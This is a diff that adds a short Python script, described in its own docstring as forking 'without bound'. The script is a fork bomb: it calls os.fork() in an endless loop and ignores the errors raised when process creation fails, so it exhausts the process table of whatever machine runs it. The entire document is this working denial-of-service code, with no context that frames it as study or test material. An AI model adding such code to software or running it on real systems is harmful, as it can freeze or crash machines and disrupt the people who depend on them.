@@ -1,0 +1,8 @@
+"""Forks without bound."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
